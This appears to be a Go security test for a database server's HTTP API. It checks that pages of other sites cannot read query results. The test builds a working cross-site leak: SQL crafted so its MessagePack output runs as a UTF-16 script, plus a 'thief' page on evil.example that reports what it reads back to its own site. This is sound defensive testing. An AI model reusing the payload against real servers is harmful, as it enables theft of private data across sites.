package http

import (
	"bytes"
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/scoterdb/scoter/tests/binary"
	"github.com/scoterdb/scoter/tests/toolchain"
)

// secret is stored in a row that a page of another site must not read.
const secret = "tops3cret"

// scriptQuery returns a query with this property: its result in MessagePack, read as UTF-16, is a
// script that calls leak with the secret. In that part each character is followed by a zero byte.
// pad characters and the name of a column move it to an even offset, after bytes that are read as a
// name.
func scriptQuery(pad int) string {
	wide := func(text string) string { return "regexp_replace(" + text + `, '(.)', '\1' || chr(0), 'gs')` }
	return fmt.Sprintf("SELECT '%s' || %s || %s || %s AS %s", strings.Repeat("a", pad), wide("'=0;leak(`'"), wide("(SELECT max(v) FROM secrets)"), wide("'`)//'"), strings.Repeat("a", 1+pad%7))
}

// runsAsScript reports whether bytes, read as UTF-16, end with the call after text that may be one
// name.
func runsAsScript(body []byte) bool {
	call := []byte{}
	for _, c := range []byte("=0;leak(`") {
		call = append(call, c, 0)
	}
	at := bytes.Index(body, call)
	return at > 0 && at%2 == 0
}

// browse opens a page of evil.example in Chromium. It returns what the page's script posts to /said
// of that site.
func browse(t *testing.T, page string) string {
	t.Helper()
	said := make(chan string, 1)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(page))
	})
	mux.HandleFunc("GET /said", func(_ http.ResponseWriter, r *http.Request) {
		select {
		case said <- r.URL.Query().Get("what"):
		default:
		}
	})
	site := httptest.NewServer(mux)
	defer site.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(site.URL, "http://"))
	browser := toolchain.Chromium(t, "--host-resolver-rules=MAP evil.example 127.0.0.1", "http://evil.example:"+port+"/")
	var log bytes.Buffer
	browser.Stdout, browser.Stderr = &log, &log
	browser.WaitDelay = time.Second // child processes may keep the pipe open
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer end(browser)
	select {
	case what := <-said:
		return what
	case <-time.After(3 * time.Minute):
		end(browser)
		t.Fatalf("the page said nothing: %s", log.String())
	}
	return ""
}

func end(c *exec.Cmd) {
	_ = c.Process.Kill()
	_ = c.Wait() // it was killed
}

// TestPagesOfOtherSitesReadNothing opens a page of another site in a real browser. The page loads
// responses of the server as scripts, pictures, styles and frames.
func TestPagesOfOtherSitesReadNothing(t *testing.T) {
	s := binary.Serve(t, t.TempDir())
	sql(t, s, "CREATE TABLE secrets AS SELECT '"+secret+"' AS v").must(t, 200)

	script := ""
	var answered []byte
	for pad := range 300 {
		path := "/api/v1/sql?format=msgpack&q=" + url.QueryEscape(scriptQuery(pad))
		body := []byte(send(t, s, "GET", path, "").must(t, 200).body)
		if runsAsScript(body) {
			script, answered = s.URL+path, body
			break
		}
	}
	if script == "" {
		t.Fatal("no answer is a script")
	}
	// If a server without protection sends the same bytes, the page can read them.
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/msgpack")
		_, _ = w.Write(answered)
	}))
	defer careless.Close()
	if got := browse(t, thief(careless.URL+"/", careless.URL+"/")); !strings.Contains(got, secret) {
		t.Fatalf("the page does not see what nobody protects: %s", got)
	}

	before := rowsReturned(t, s)
	got := browse(t, thief(script, s.URL+"/api/v1/sql?format=csv&q="+url.QueryEscape("SELECT v FROM secrets")))
	if strings.Contains(got, secret) || !strings.Contains(got, "script: error") || !strings.Contains(got, "fetch: refused") {
		t.Errorf("a page of another site says %q", got)
	}
	if after := rowsReturned(t, s); after != before {
		t.Errorf("%s rows were returned to a page of another site, after %s before", strings.TrimSpace(after), strings.TrimSpace(before))
	}
}

// rowsReturned returns how many rows statements have returned so far.
func rowsReturned(t *testing.T, s *binary.Server) string {
	t.Helper()
	for line := range strings.Lines(send(t, s, "GET", "/metrics", "").must(t, 200).body) {
		if n, ok := strings.CutPrefix(line, "scoter_rows_returned_total "); ok {
			return n
		}
	}
	t.Fatal("no scoter_rows_returned_total")
	return ""
}

// thief is a page that reads one URL as a script in UTF-16, and others in all ways that a page has.
// It reports to its own site what it could read.
func thief(script, other string) string {
	script, other = html.EscapeString(script), html.EscapeString(other)
	return `<!doctype html><meta charset=utf-8><body><script>
let seen = [];
function leak(s) { seen.push("leaked " + s) }
function tell() { fetch("/said?what=" + encodeURIComponent(seen.join("; "))) }
addEventListener("load", async () => {
  try { const r = await fetch(document.querySelector("img").src); seen.push("fetch: " + await r.text()) } catch (e) { seen.push("fetch: refused") }
  try { const r = await fetch(document.querySelector("img").src, {mode: "no-cors"}); seen.push("opaque: " + r.type + await r.text()) } catch (e) { seen.push("opaque: refused") }
  try { seen.push("frame: " + document.querySelector("iframe").contentDocument.body.textContent) } catch (e) { seen.push("frame: refused") }
  tell();
});
</script>
<script charset="utf-16le" src="` + script + `" onload="seen.push('script: loaded')" onerror="seen.push('script: error')"></script>
<img src="` + other + `"><link rel=stylesheet href="` + other + `"><iframe src="` + other + `"></iframe></body>`
}
